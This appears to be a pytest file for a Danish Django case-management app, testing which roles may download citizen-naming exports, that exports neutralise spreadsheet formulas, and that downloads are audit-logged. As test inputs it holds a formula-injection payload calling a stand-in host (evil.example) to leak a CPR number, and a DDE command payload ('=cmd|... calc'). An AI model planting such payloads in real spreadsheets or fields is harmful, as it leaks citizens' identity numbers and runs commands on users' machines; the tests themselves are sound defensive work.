"""Issue 21: who may download what, formulas in exports, and exports in "who viewed
this citizen".

The rule (README, "Who sees and exports what"): a download that names citizens by
full CPR is a leder's; an administrator sees the reports with CPR masked and gets a
403 for those downloads; counts (hovedtal) and the system change's report (CPR
masked, the administrator's own job) are the administrator's too; the operator uses
``smdb_rapport``. Every export URL of the app must be listed here with that rule.
"""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from django.test import Client
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from audit.models import AuditEntry, Handling
from cases.models import Tilbud, Tilbudstilknytning
from tests.factories import UserFactory
from tests.reporting.conftest import lav

pytestmark = pytest.mark.django_db

ROLLER = ("sagsbehandler", "leder", "administrator", "operatoer")
NAVNGIVER_BORGERE = {"leder": 200, "administrator": 403, "sagsbehandler": 403, "operatoer": 403}
#: Every export URL (by name) and the answer each role gets.
EKSPORTER = {
    "reporting:overblik_xlsx": NAVNGIVER_BORGERE,
    "reporting:overblik_csv": NAVNGIVER_BORGERE,
    "reporting:godkendelse_xlsx": NAVNGIVER_BORGERE,
    # Counts only, no citizen.
    "reporting:hovedtal_xlsx": {
        "leder": 200,
        "administrator": 200,
        "sagsbehandler": 403,
        "operatoer": 403,
    },
    # The system change's report: CPR masked, for the administrator who runs it.
    "systemskifte:excel": {
        "leder": 403,
        "administrator": 200,
        "sagsbehandler": 403,
        "operatoer": 403,
    },
}
FORMEL = '=HYPERLINK("http://evil.example/?cpr="&B2,"Åbn")'


def export_url_names(resolver=None, prefix: str = "", namespace: str = "") -> set[str]:
    """Every URL of the app that answers with a file, by its namespaced name."""
    names = set()
    for p in (resolver or get_resolver()).url_patterns:
        route = prefix + str(p.pattern)
        if isinstance(p, URLResolver):
            names |= export_url_names(p, route, p.namespace or namespace)
        elif route.endswith((".xlsx", ".csv")) or "excel" in route:
            names.add(f"{namespace}:{p.name}")
    return names


def test_every_export_url_has_a_rule_per_role():
    assert export_url_names() == set(EKSPORTER)


def login(rolle: str, myndighed) -> Client:
    client = Client()
    if rolle == "operatoer":
        user = UserFactory(
            username="operatoer", myndighed=None, is_superuser=True, is_staff=True, rolle=""
        )
    else:
        user = UserFactory(username=f"en-{rolle}", myndighed=myndighed, rolle=rolle)
    client.force_login(user)
    return client


@pytest.fixture
def borger(kbh, charlie):
    """An open forløb with a tilknytning, and a system change that names it."""
    from systemskifte.models import SkifteBorger, Systemskifte

    f = lav(kbh, date(2026, 2, 1), "tilknyttet", dage=15)
    skifte = Systemskifte.objects.create(
        myndighed=kbh, model="model2", skiftedato=date(2026, 6, 30), startet_af=charlie
    )
    SkifteBorger.objects.create(
        skifte=skifte,
        anmodning_id=1,
        person_identifikator=f.person_identifikator,
        plan=["Registrér ny anmodning"],
        nyt_forloeb=f,
    )
    return f, skifte


def url_of(name: str, skifte) -> str:
    if name == "systemskifte:excel":
        return reverse(name, args=[skifte.pk])
    return reverse(name)


def cells(body: bytes) -> list:
    wb = load_workbook(io.BytesIO(body))
    return [c for ws in wb for row in ws.values for c in row]


@pytest.mark.parametrize("rolle", ROLLER)
@pytest.mark.parametrize("name", sorted(EKSPORTER))
def test_each_export_url_answers_each_role_by_the_rule(name, rolle, kbh, borger):
    f, skifte = borger
    response = login(rolle, kbh).get(url_of(name, skifte), {"aar": 2026})
    assert response.status_code == EKSPORTER[name][rolle], (name, rolle)
    if response.status_code != 200:
        assert f.person_identifikator.encode() not in response.content
        assert not AuditEntry.objects.filter(handling=Handling.EKSPORTERET).exists()
        return
    body = response.content
    naming = cells(body) if name.endswith(("xlsx", "excel")) else body.decode("utf-8-sig")
    if rolle == "administrator":
        # An administrator never gets a full CPR, in any export.
        assert f.person_identifikator not in naming, name
        assert f.cpr_formatted not in naming, name


def test_an_administrator_sees_the_report_pages_with_cpr_masked_and_no_download_links(
    client, charlie, kbh, borger
):
    f, _ = borger
    client.force_login(charlie)
    for url in (reverse("reporting:overblik"), reverse("reporting:godkendelse")):
        body = client.get(url, {"aar": 2026}).content.decode()
        assert f.person_identifikator not in body and f.cpr_formatted not in body
        assert reverse("reporting:overblik_xlsx") not in body
        assert reverse("reporting:overblik_csv") not in body
        assert reverse("reporting:godkendelse_xlsx") not in body
    assert f.cpr_maskeret in client.get(reverse("reporting:overblik")).content.decode()
    assert "kun hentes af en leder" in client.get(reverse("reporting:overblik")).content.decode()


# --- Formulas (Medium) -----------------------------------------------------------------


@pytest.fixture
def giftige_tekster(kbh):
    """A caseworker named like a formula registered the forløb; its tilbud's name is one."""
    ond = UserFactory(username="ond", myndighed=kbh, first_name=FORMEL, last_name="")
    f = lav(kbh, date(2026, 2, 1), "tilknyttet", dage=15, oprettet_af=ond)
    # The catalogue's names come from SMDB (HentAlleTilbud).
    tilbud_id = Tilbudstilknytning.objects.get(forloeb=f).tilbud_id
    Tilbud.objects.filter(tilbud_id=tilbud_id).update(navn="@SUM(A1:A9)")
    return f


def formulas_in(body: bytes) -> list[str]:
    """The formula elements in the workbook's XML, as a spreadsheet would run them."""
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


@pytest.mark.parametrize("name", ["reporting:overblik_xlsx"])
def test_user_text_in_excel_is_text_never_a_formula(name, kbh, leder, giftige_tekster):
    client = Client()
    client.force_login(leder)
    body = client.get(reverse(name), {"aar": 2026, "dato": "2026-03-01"}).content
    assert formulas_in(body) == []
    wb = load_workbook(io.BytesIO(body))
    tekster = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in tekster)
    if name == "reporting:overblik_xlsx":
        navn = next(c for c in tekster if c.value == FORMEL)
        assert navn.quotePrefix  # Excel keeps it text even when the cell is edited
        tilbud = next(c for c in tekster if c.value == "@SUM(A1:A9)")
        assert tilbud.quotePrefix


def test_user_text_in_csv_cannot_start_a_formula(client, leder, giftige_tekster):
    client.force_login(leder)
    body = client.get(reverse("reporting:overblik_csv"), {"dato": "2026-03-01"}).content
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
    assert rows[0]["RegistreretAf"] == "'" + FORMEL
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


@pytest.mark.parametrize("tekst", ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised_in_csv(tekst):
    from reporting.regneark import csv_felt

    assert csv_felt(tekst) == "'" + tekst
    assert csv_felt("Anders And") == "Anders And"
    assert csv_felt(-1) == -1


def test_smdbs_text_in_the_system_change_report_is_never_a_formula(client, charlie, kbh):
    from systemskifte import report
    from systemskifte.models import SkifteBorger, Systemskifte

    skifte = Systemskifte.objects.create(
        myndighed=kbh, model="model2", skiftedato=date(2026, 6, 30), startet_af=charlie
    )
    SkifteBorger.objects.create(
        skifte=skifte,
        anmodning_id=1,
        person_identifikator="0101901234",
        plan=["=cmd|' /C calc'!A0"],
        fejl=FORMEL,
        trin="fejl",
    )
    body = report.excel(skifte)
    assert formulas_in(body) == []
    assert FORMEL in cells(body)


# --- Exports in "who viewed this citizen" (Medium) ----------------------------------------


@pytest.mark.parametrize(
    "name,rolle",
    [
        ("reporting:overblik_xlsx", "leder"),
        ("reporting:overblik_csv", "leder"),
        ("reporting:godkendelse_xlsx", "leder"),
        ("systemskifte:excel", "administrator"),
    ],
)
def test_a_download_that_names_a_citizen_is_found_by_its_cpr_in_the_access_log(
    name, rolle, kbh, charlie, borger
):
    f, skifte = borger
    assert login(rolle, kbh).get(url_of(name, skifte), {"aar": 2026}).status_code == 200
    admin = Client()
    admin.force_login(charlie)
    log = reverse("audit:audit_list")
    assert admin.post(log, {"cpr": f.cpr_formatted}).status_code == 302
    found = [e for e in admin.get(log).context["page"] if e.handling == Handling.EKSPORTERET]
    assert [e.forloeb_id for e in found] == [f.pk], name
    assert f.person_identifikator not in found[0].beskrivelse
